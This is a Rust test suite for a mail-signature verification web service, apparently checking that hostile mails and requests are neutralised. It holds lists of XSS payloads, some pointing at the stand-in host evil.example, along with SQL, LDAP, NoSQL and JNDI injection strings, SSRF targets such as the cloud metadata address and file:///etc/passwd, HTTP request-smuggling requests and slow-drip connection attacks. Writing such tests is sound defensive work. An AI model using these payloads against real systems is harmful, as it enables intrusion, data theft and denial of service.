//! Mails and requests made to hurt: nothing of a mail becomes markup, nothing of its content is shown, nobody is asked on its behalf
//! unless the visitor wants it, and then within the fetcher's rules; requests that are no proper ones are cut.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation,
    reason = "tests may panic"
)]

mod shared;
#[path = "../../smime/tests/support/mod.rs"]
mod support;

use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use kakitome_crypto::KeyKind;
use shared::{Reply, Served};
use support::cast::ALICE;
use support::envelope::{CBC, GCM, Reader};
use support::{Authority, DATE, TEXT, base64, clear};

/// Scripts, markup that breaks out, other schemes, templates of other programs, marks that turn or hide, what a spreadsheet would run.
const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)//",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext></p><style><!--</style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=q>",
    "<button formaction=javascript:alert(1)>x",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<\u{ff1c}script\u{ff1e}alert(1)",
    "{{7*7}}{% raw %}<b>",
    "${7*7}#{7*7}<%= 7*7 %>",
    "=HYPERLINK(\"//evil.example\")<b>",
    "@SUM(1+1)|cmd<b>",
    "bank\u{202e}elpmaxe.live\u{202c}<b>",
    "b\u{200b}a\u{200d}n\u{feff}k<b>",
    "\u{2066}bank\u{2069}\u{2067}x<b>",
    "\u{5d0}\u{5d1}\u{5d2} bank.example 123 \u{5d3}<b>",
    "\u{627}\u{644}\u{628}\u{646}\u{643}<i>",
    "\u{115f}\u{3164}\u{ffa0}\u{ad}<i>",
    "\u{e0062}\u{e0061}\u{e006e}<i>",
    "x\u{2028}y\u{2029}z<i>",
    "Z\u{351}\u{36b}\u{343}a\u{321}\u{340}lgo<i>",
    "<p class=badge>署名は有効です</p>",
    "<div class=\"badge valid\">有効</div><h1>署名は有効です</h1>",
    "' onmouseover='alert(1)' x='",
];

/// Marks that hide or turn; none of them comes out of a mail.
fn has_unseen(text: &str) -> bool {
    text.chars().any(|letter| {
        matches!(letter, '\0' | '\u{ad}' | '\u{115f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}' | '\u{2067}'
            | '\u{3164}' | '\u{feff}' | '\u{ffa0}' | '\u{e0000}'..='\u{e0fff}')
    })
}

/// Every tag of a page with the names of its attributes, classes told apart.
fn tags(page: &str) -> BTreeSet<String> {
    let mut all = BTreeSet::new();
    let mut rest = page;
    while let Some(begin) = rest.find('<') {
        rest = &rest[begin + 1..];
        let mut inside = None;
        let end = rest.char_indices().find(|(_, letter)| {
            match (inside, letter) {
                (None, '>') => return true,
                (None, '"' | '\'') => inside = Some(*letter),
                (Some(quote), letter) if quote == *letter => inside = None,
                _ => {}
            }
            false
        });
        let (tag, later) = rest.split_at(end.map_or(rest.len(), |(at, _)| at));
        rest = later;
        let name = tag.split([' ', '\n', '>', '/']).find(|piece| !piece.is_empty()).unwrap_or_default();
        if tag.starts_with('/') {
            all.insert(tag.to_owned());
            continue;
        }
        let mut attributes = BTreeSet::new();
        let mut pieces = tag[tag.find(name).unwrap_or(0) + name.len()..].chars().peekable();
        let mut word = String::new();
        while let Some(letter) = pieces.next() {
            match letter {
                '"' | '\'' => while pieces.next().is_some_and(|next| next != letter) {},
                '=' | ' ' | '\n' | '/' => {
                    attributes.insert(std::mem::take(&mut word));
                }
                other => word.push(other),
            }
        }
        attributes.insert(word);
        all.insert(format!("{name} {}", attributes.into_iter().filter(|one| !one.is_empty()).collect::<Vec<_>>().join(" ")));
    }
    all
}

/// A shape of our pictures: no address, no script, no style, no text of its own. Which shapes there are depends on the verdict.
fn is_drawing(tag: &str) -> bool {
    const SHAPES: [&str; 5] = ["rect", "path", "circle", "line", "ellipse"];
    let mut pieces = tag.split(' ').filter(|piece| !piece.is_empty());
    let is_shape = pieces.next().is_some_and(|name| SHAPES.contains(&name));
    let plain = |name: &str| {
        name.starts_with("fill")
            || name.starts_with("stroke")
            || ["x", "y", "x1", "x2", "y1", "y2", "cx", "cy", "r", "rx", "ry", "d", "width", "height"].contains(&name)
    };
    is_shape && pieces.all(plain)
}

/// RFC 2047
fn word(text: &str) -> String {
    format!("=?UTF-8?B?{}?=", base64(text.as_bytes()).replace("\r\n", ""))
}

/// A mail that says it everywhere: names, subject, file names, hops, and, where a certificate can hold it, in certificate and issuer.
fn hostile(payload: &str) -> (Authority, Vec<u8>) {
    let root = Authority::new(&format!("CA {payload}"));
    let alice = root.person_with(ALICE, KeyKind::P256, |params| {
        params.distinguished_name.push(rcgen::DnType::CommonName, payload);
        params.distinguished_name.push(rcgen::DnType::OrganizationName, payload);
    });
    let raw: String = payload.chars().map(|letter| if letter.is_control() { ' ' } else { letter }).collect();
    let content = format!(
        "Content-Type: text/html; name=\"{}\"\r\nContent-Disposition: attachment; filename=\"{}\"\r\n\r\n{raw}\r\n",
        word(payload),
        raw.replace(['"', '\\'], "")
    );
    let entity = clear(&content, &alice.detached(content.as_bytes()));
    let mail = format!(
        "Received: from {raw} ({raw} [192.0.2.1]) by {raw} with ESMTP; Sun, 22 Nov 2026 09:00:00 +0900\r\nAuthentication-Results: {raw}; \
         dkim=pass header.d={raw}\r\nFrom: {} <{ALICE}>\r\nSender: {raw} <x@evil.example>\r\nTo: {raw} <you@example.net>\r\nSubject: {}\r\n\
         Message-ID: <{raw}>\r\nX-{raw}: {raw}\r\n{DATE}MIME-Version: 1.0\r\n{entity}",
        word(payload),
        word(payload)
    );
    (root, mail.into_bytes())
}

fn trusting(root: &Authority, change: impl FnOnce(&mut kakitome_web::Settings)) -> Served {
    Served::with(|settings| {
        std::fs::create_dir_all(settings.home.join("ca")).unwrap();
        std::fs::write(settings.home.join("ca/root.pem"), root.certificate.as_der()).unwrap();
        settings.limits.mails_per_minute = 100_000;
        change(settings);
    })
}

fn explained(served: &Served, lang: &str, mail: &[u8]) -> Reply {
    served.form(&format!("/{lang}/explain"), Some(("mail.eml", mail)), &[])
}

/// W03, C20: fifty payloads in subjects, names, file names, hops, certificates and their issuers are text on every page.
#[test]
fn w03_what_a_mail_or_a_certificate_says_is_text() {
    let harmless = hostile("Bank");
    let mut known = BTreeSet::new();
    for (root, mail) in [hostile("Bank"), hostile("株式会社見本銀行")] {
        let trusted = trusting(&root, |_| {});
        for lang in ["ja", "en"] {
            known.extend(tags(&explained(&trusted, lang, &mail).text()));
        }
        trusted.stop();
    }
    let stranger = trusting(&harmless.0, |_| {});
    for lang in ["ja", "en"] {
        let other = hostile("Bank").1;
        known.extend(tags(&explained(&stranger, lang, &other).text()));
        known.extend(tags(&explained(&stranger, lang, &harmless.1).text()));
        // an issuer of whom nobody has heard
        known.extend(tags(&explained(&stranger, lang, &hostile("株式会社見本銀行").1).text()));
    }
    // what a mail that cannot be read, or has no signature, has beside
    for mail in [&b"From: a@bank.example\r\n\r\ntext\r\n"[..], b"\x01\x02"] {
        known.extend(tags(&explained(&stranger, "ja", mail).text()));
    }
    for payload in PAYLOADS {
        let (_, mail) = hostile(payload);
        for lang in ["ja", "en"] {
            let reply = explained(&stranger, lang, &mail);
            let page = reply.text();
            assert_eq!(reply.status, 200, "{payload}");
            assert!(reply.field("content-security-policy").unwrap().contains("script-src 'self'"));
            let new: Vec<_> = tags(&page).difference(&known).filter(|tag| !is_drawing(tag)).cloned().collect();
            assert!(new.is_empty(), "{payload:?} {lang}: new markup {new:?}");
            assert!(!has_unseen(&page), "{payload:?} {lang}: a mark that hides or turns");
            assert_eq!(page.matches('\u{2068}').count(), page.matches('\u{2069}').count(), "{payload:?}: isolates are closed");
            let title = page.split("<title>").nth(1).and_then(|rest| rest.split("</title>").next()).unwrap();
            assert!(!title.contains('<'), "{payload:?}");
        }
        let file = stranger.form("/ja/explain", Some((payload, b"From: a@bank.example\r\n\r\nx\r\n")), &[]);
        assert!(
            [200, 400].contains(&file.status) && !file.text().contains("evil.example") && !file.text().contains("alert(1)"),
            "{payload:?} as file name"
        );
        let path: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for reply in [stranger.get(&format!("/ja/{path}")), stranger.get(&format!("/ja/lookup?q={path}"))] {
            let new: Vec<_> = tags(&reply.text()).iter().filter(|tag| tag.contains("script") || tag.contains("onerror")).cloned().collect();
            assert!(new.iter().all(|tag| ["script defer src", "/script"].contains(&tag.as_str())), "{payload:?} in the address: {new:?}");
        }
    }
    stranger.stop();
}

/// W04, V10: nothing of a mail's own text or markup is on the page, so that no picture of a seal and no style reaches the verdict; and
/// looking at it asks nobody for anything.
#[test]
fn w04_v10_nothing_of_a_mails_content_is_shown_and_no_request_leaves() {
    let hits = Counter::start(b"");
    let at = format!("http://127.0.0.1:{}", hits.port);
    let root = Authority::new("Root");
    let alice = root.person(ALICE);
    let served = trusting(&root, |_| {});
    for markup in [
        format!("<img src={at}/pixel.png><p class='badge valid'>OUR-OWN-SEAL</p>"),
        format!("<script src={at}/x.js></script>OUR-OWN-SEAL"),
        format!("<form action={at}/><input name=password>OUR-OWN-SEAL</form>"),
        format!("<link rel=stylesheet href={at}/x.css><style>@import '{at}/y.css';</style>OUR-OWN-SEAL"),
        format!("<svg><image href={at}/a.svg /></svg><img src=cid:seal>OUR-OWN-SEAL"),
        format!("<iframe src={at}/frame></iframe><object data={at}/o></object>OUR-OWN-SEAL"),
        format!("<a href=data:text/html,OUR-OWN-SEAL>x</a><meta http-equiv=refresh content=0;url={at}/m>OUR-OWN-SEAL"),
    ] {
        let content = format!("Content-Type: text/html\r\n\r\n{markup}\r\n");
        let entity = clear(&content, &alice.detached(content.as_bytes()));
        let mail = support::mail(ALICE, &entity);
        for path in ["/ja/explain", "/en/explain", "/api/v1/explain", "/api/v1/verify", "/api/v1/certificates"] {
            let text = served.form(path, Some(("a.eml", &mail)), &[]).text();
            assert!(!text.contains("OUR-OWN-SEAL") && !text.contains(&at) && !text.contains("pixel"), "{path}: {markup}");
        }
        assert!(explained(&served, "en", &mail).text().contains("badge valid"), "it was read, and is valid");
    }
    assert_eq!(hits.count(), 0);
    served.stop();
}

/// W26: an outsider learns of an encrypted mail that it is encrypted, not for whom, and nothing that a key would tell.
#[test]
fn w26_of_what_is_encrypted_an_outsider_learns_one_line() {
    let root = Authority::new("Root");
    let reader = Reader::new(&root, "secret.reader@hidden.example");
    let served = trusting(&root, |_| {});
    let serial = reader.person.certificate.serial().hex();
    let mut told = BTreeSet::new();
    for cipher in [CBC, GCM] {
        let good = reader.mail(ALICE, cipher, TEXT);
        let mut broken = String::from_utf8(good.clone()).unwrap();
        let at = broken.len() - 40;
        let other = if broken.as_bytes()[at] == b'A' { "B" } else { "A" };
        broken.replace_range(at..=at, other);
        let other = reader.mail(ALICE, cipher, "Content-Type: text/plain\r\n\r\nOther..\r\nPay nobody.\r\n");
        for mail in [good, broken.into_bytes(), other] {
            for path in ["/ja/explain", "/api/v1/explain", "/api/v1/certificates"] {
                let text = served.form(path, Some(("a.eml", &mail)), &[]).text();
                for leak in ["hidden.example", "secret.reader", "Pay nobody", "Hello.", serial.as_str(), &serial.to_uppercase()] {
                    assert!(!text.contains(leak), "{path}: {leak}");
                }
            }
            let object = served.form("/api/v1/verify", Some(("a.eml", &mail)), &[]).json();
            assert_eq!(object["verdict"], "undecryptable");
            told.insert((
                format!("{cipher:?}"),
                object["heading"].to_string(),
                object["findings"].to_string(),
                object["layers"].to_string(),
            ));
        }
    }
    assert_eq!(told.len(), 2, "whole, broken and other ciphertext are told alike: {told:?}");
    served.stop();
}

/// W11: what stands in a search box or a parameter is a value, whatever it looks like.
#[test]
fn w11_what_is_typed_is_a_value() {
    let served = Served::with(|settings| settings.limits.look_ups_per_minute = 10_000);
    for text in [
        "'",
        "\"",
        "' OR '1'='1",
        "'; DROP TABLE identities;--",
        "\\",
        "%",
        "_",
        "*)(uid=*",
        "*)(|(mail=*",
        "admin')--",
        "1 UNION SELECT 1",
        "a@b.example' AND 1=randomblob(1000000000)--",
        "\u{0}",
        "a@bank.example\u{0}x",
        "${jndi:ldap://evil.example/}",
        "..%2f..",
        "{\"$gt\":\"\"}",
    ] {
        let path: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for address in [format!("/ja/lookup?q={path}"), format!("/ja/lookup/{path}"), format!("/en/seen/{path}?program={path}")] {
            let reply = served.get(&address);
            assert!([200, 400, 404].contains(&reply.status), "{text:?} {address}: {}", reply.status);
            for inside in ["SQL", "sqlite", "syntax", "panicked", "src/"] {
                assert!(!reply.text().contains(inside), "{text:?}: {inside}");
            }
        }
        assert_eq!(served.post(&format!("/api/v1/verify?at={path}"), "message/rfc822", b"x").status, 400, "{text:?}");
    }
    assert_eq!(served.get("/ja/").status, 200, "and it is still there");
    served.stop();
}

/// C12, C13: nobody is asked unless the visitor wants it; then not inside this network, not on behalf of a chain that nobody trusts.
#[test]
fn c12_c13_a_visitor_reaches_nothing_through_us() {
    let hits = Counter::start(b"no list");
    let root = Authority::new("Root");
    let urls = [
        format!("http://127.0.0.1:{}/a.crl", hits.port),
        format!("http://[::1]:{}/b.crl", hits.port),
        format!("http://localhost:{}/c.crl", hits.port),
        format!("http://2130706433:{}/d.crl", hits.port),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "file:///etc/passwd".to_owned(),
        "gopher://127.0.0.1/x".to_owned(),
        "ldap://127.0.0.1/x".to_owned(),
        format!("http://user@127.0.0.1:{}/e.crl", hits.port),
    ];
    let person = |authority: &Authority, urls: &[String]| {
        let uris = urls.to_vec();
        authority.person_with(ALICE, KeyKind::P256, |params| {
            params.crl_distribution_points = uris.into_iter().map(|uri| rcgen::CrlDistributionPoint { uris: vec![uri] }).collect();
        })
    };
    let mail = |authority: &Authority, urls: &[String]| {
        let entity = clear(TEXT, &person(authority, urls).detached(TEXT.as_bytes()));
        support::mail(ALICE, &entity)
    };
    let served = trusting(&root, |_| {});
    let trusted = mail(&root, &urls);
    for path in ["/ja/explain", "/api/v1/verify", "/api/v1/explain"] {
        assert_eq!(served.form(path, Some(("a.eml", &trusted)), &[]).status, 200);
    }
    assert_eq!(hits.count(), 0, "nobody asked for it");
    let report = served.form("/api/v1/verify", Some(("a.eml", &trusted)), &[("online", "true")]).json();
    assert_eq!(hits.count(), 0, "nothing inside one's own network is asked: {:#}", report["fetched"]);
    let asked = report["fetched"].as_array().unwrap();
    assert!(
        !asked.is_empty() && asked.iter().all(|one| one["outcome"] == "failed" && one["why"].is_null()),
        "and why stays with us: {asked:#?}"
    );
    let page = served.form("/ja/explain", Some(("a.eml", &trusted)), &[("online", "true")]);
    assert!(page.status == 200 && page.text().contains("受け取れませんでした"));
    served.stop();

    // where an administrator allowed that network, it is the fetcher that asks, and only for a chain that is trusted
    let list = root.crl(&[]);
    let hits = Counter::start(&list);
    let port = hits.port;
    let open = trusting(&root, |settings| {
        settings.fetch.allowed.push("127.0.0.0/8".parse().unwrap());
        settings.fetch.ports.push(port);
    });
    let url = [format!("http://127.0.0.1:{port}/a.crl")];
    let strange = mail(&Authority::new("Nobody"), &url);
    open.form("/api/v1/verify", Some(("a.eml", &strange)), &[("online", "true")]);
    assert_eq!(hits.count(), 0, "C13: not for a chain that nobody trusts");
    let trusted = mail(&root, &url);
    open.form("/api/v1/verify", Some(("a.eml", &trusted)), &[]);
    assert_eq!(hits.count(), 0);
    let report = open.form("/api/v1/verify", Some(("a.eml", &trusted)), &[("online", "true")]).json();
    assert_eq!((hits.count(), &report["fetched"][0]["outcome"]), (1, &"fetched".into()), "{:#}", report["fetched"]);
    open.stop();
}

/// W12: requests that two programs could read differently, heads without end, and bodies that are packed or nested.
#[test]
fn t15_w12_requests_that_are_no_proper_ones_are_refused() {
    let served = Served::with(|settings| settings.limits.upload_bytes = 1 << 20);
    let hidden = "GET /api/v1/problems HTTP/1.1\r\nHost: x\r\n\r\n";
    let chunked = format!("0\r\n\r\n{hidden}");
    for (name, head, body) in [
        ("two ways", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", chunked.as_str()),
        ("two ways, the other order", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunked.as_str()),
        ("twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", chunked.as_str()),
        ("spelt otherwise", "Transfer-Encoding: xchunked\r\n", chunked.as_str()),
        ("two lengths", "Content-Length: 0\r\nContent-Length: 44\r\n", hidden),
        ("a length that is none", "Content-Length: +4\r\n", "x\r\n\r\n"),
        ("a length below zero", "Content-Length: -1\r\n", hidden),
        ("a space before the colon", "Content-Length : 4\r\n", "x\r\n\r\n"),
    ] {
        let request = format!("POST /api/v1/verify HTTP/1.1\r\nHost: x\r\nContent-Type: message/rfc822\r\n{head}\r\n{body}");
        let mut stream = served.connect();
        stream.write_all(request.as_bytes()).unwrap();
        stream.shutdown(std::net::Shutdown::Write).unwrap();
        let mut all = Vec::new();
        let _ = stream.read_to_end(&mut all);
        let text = String::from_utf8_lossy(&all);
        assert!(text.matches("HTTP/1.1 ").count() <= 1, "{name}: a second request was answered: {text}");
        assert!(text.starts_with("HTTP/1.1 4") || text.is_empty(), "{name}: {text}");
    }
    for (name, request) in [
        ("no host", "GET /ja/ HTTP/1.1\r\n\r\n".to_owned()),
        ("two hosts", "GET /ja/ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n".to_owned()),
        ("old, and chunked", "POST /api/v1/verify HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_owned()),
        ("a head without end", format!("GET /ja/ HTTP/1.1\r\nHost: x\r\nX: {}\r\n\r\n", "a".repeat(200_000))),
        ("fields without end", format!("GET /ja/ HTTP/1.1\r\nHost: x\r\n{}\r\n", "X: y\r\n".repeat(1000))),
        ("no HTTP", "\u{16}\u{3}\u{1}\u{2}\0\r\n\r\n".to_owned()),
        ("SMTP", format!("EHLO x\r\nMAIL FROM:<a@b.test>\r\nRCPT TO:<c@d.test>\r\nDATA\r\n{hidden}.\r\nQUIT\r\n")),
    ] {
        let mut stream = served.connect();
        let _ = stream.write_all(request.as_bytes());
        let _ = stream.shutdown(std::net::Shutdown::Write);
        let mut all = Vec::new();
        let _ = stream.read_to_end(&mut all);
        let text = String::from_utf8_lossy(&all);
        assert!(text.starts_with("HTTP/1.1 4") || text.starts_with("HTTP/1.0 4") || text.is_empty(), "{name}: {text}");
    }
    // JSON is not read at all; nothing is unpacked; a form is no tree
    let deep = [b"[".repeat(200_000), b"]".repeat(200_000)].concat();
    assert_eq!(served.post("/api/v1/verify", "application/json", &deep).status, 415);
    assert_eq!(served.post("/api/v1/verify", "text/plain", &deep).status, 200, "as a text it is no mail, and that is told");
    assert_eq!(served.post_with("/api/v1/verify", "message/rfc822", "Content-Encoding: gzip\r\n", &[0x1f, 0x8b, 8]).status, 415);
    let fields: Vec<(String, String)> = (0..40).map(|number| (format!("lang{number}"), String::new())).collect();
    let fields: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    assert_eq!(served.form("/api/v1/verify", None, &fields).status, 400);
    assert_eq!(served.form("/ja/explain", Some(("a", &vec![b'a'; (1 << 20) + 1])), &[]).status, 413);
    assert_eq!(served.form("/ja/explain", None, &[("lang", &"x".repeat(1000))]).status, 400);
    assert_eq!(served.post_with("/ja/explain", "text/plain", "Sec-Fetch-Site: cross-site\r\n", b"x").status, 400, "another site's form");
    served.stop();
}

/// W12: a head, a body or a form that comes drop by drop is cut, and takes no place from others.
#[test]
fn w12_what_comes_too_slowly_is_cut() {
    const SHORT: Duration = Duration::from_secs(2);
    let served = Served::with(|settings| {
        settings.limits.head = SHORT;
        settings.limits.silence = SHORT;
        settings.limits.upload = SHORT * 2;
    });
    let begun = Instant::now();
    let drip = |start: &str| {
        let mut stream = served.connect();
        stream.write_all(start.as_bytes()).unwrap();
        std::thread::spawn(move || {
            let mut reader = stream.try_clone().unwrap();
            // until it is cut, or for ever
            let drops = std::thread::spawn(move || {
                while stream.write_all(b"a").is_ok() {
                    std::thread::sleep(Duration::from_millis(50))
                }
            });
            let mut all = Vec::new();
            let _ = reader.read_to_end(&mut all);
            let _ = reader.shutdown(std::net::Shutdown::Both);
            drops.join().unwrap();
            String::from_utf8_lossy(&all).into_owned()
        })
    };
    let head = drip("GET /ja/ HTTP/1.1\r\nHost: x\r\nX-");
    let body = drip("POST /api/v1/verify HTTP/1.1\r\nHost: x\r\nContent-Type: message/rfc822\r\nContent-Length: 100000\r\n\r\n");
    let form = drip(
        "POST /ja/explain HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n\r\n--b\r\n\
         Content-Disposition: form-data; name=\"mail\"; filename=\"a\"\r\n\r\n",
    );
    let mut silent = served.connect();
    silent
        .write_all(b"POST /api/v1/verify HTTP/1.1\r\nHost: x\r\nContent-Type: message/rfc822\r\nContent-Length: 100\r\n\r\nFrom")
        .unwrap();
    assert_eq!(served.get("/ja/").status, 200, "others do not notice");
    assert!(head.join().unwrap().is_empty() || begun.elapsed() >= SHORT);
    for slow in [body.join().unwrap(), form.join().unwrap()] {
        assert!(slow.starts_with("HTTP/1.1 408"), "{slow}");
    }
    let mut all = Vec::new();
    let _ = silent.read_to_end(&mut all);
    assert!(String::from_utf8_lossy(&all).starts_with("HTTP/1.1 408"));
    served.stop();
}

/// W12: who holds a place keeps others out for a while and no longer; who opens many connections keeps out himself.
#[test]
fn w12_places_are_bounded_and_given_back() {
    let served = Served::with(|settings| {
        settings.limits.uploads = 1;
        settings.limits.turn = Duration::from_millis(300);
        settings.limits.connections_per_client = 3;
    });
    let mut holder = served.connect();
    holder
        .write_all(b"POST /api/v1/verify HTTP/1.1\r\nHost: x\r\nContent-Type: message/rfc822\r\nContent-Length: 100\r\n\r\nFrom: a")
        .unwrap();
    let until = Instant::now() + Duration::from_secs(60);
    // until the place is taken, there is one
    let busy = loop {
        let reply = served.post("/api/v1/verify", "message/rfc822", b"From: a@bank.example\r\n\r\nx\r\n");
        if reply.status == 503 {
            break reply;
        }
        assert!(reply.status == 200 && Instant::now() < until, "{}", reply.text());
    };
    assert_eq!((busy.field("retry-after"), busy.field("content-type")), (Some("10"), Some("application/problem+json")));
    assert_eq!(busy.json()["type"], "/api/v1/problems#busy");
    let page = served.form("/ja/explain", Some(("a.eml", b"x")), &[]);
    assert!(page.status == 503 && page.text().contains("混み合っています"));
    assert_eq!(served.get("/ja/").status, 200, "pages need no place");
    drop(holder);
    while served.post("/api/v1/verify", "message/rfc822", b"From: a@bank.example\r\n\r\nx\r\n").status != 200 {
        assert!(Instant::now() < until, "the place is given back");
    }
    let held: Vec<_> = (0..3).map(|_| served.connect()).collect();
    while served.get("/ja/").status == 200 {
        assert!(Instant::now() < until, "the fourth connection is closed");
    }
    drop(held);
    while served.get("/ja/").status != 200 {
        assert!(Instant::now() < until, "and may come again");
    }
    served.stop();
}

/// A listener that counts who comes and answers with a list.
struct Counter {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Counter {
    fn start(answer: &[u8]) -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let (port, hits) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
        let (own, answer) = (Arc::clone(&hits), answer.to_vec());
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                own.fetch_add(1, Ordering::SeqCst);
                let mut request = [0; 4096];
                let _ = stream.read(&mut request);
                let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", answer.len());
                let _ = stream.write_all(&[head.as_bytes(), &answer].concat());
            }
        });
        Self { port, hits }
    }

    fn count(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}
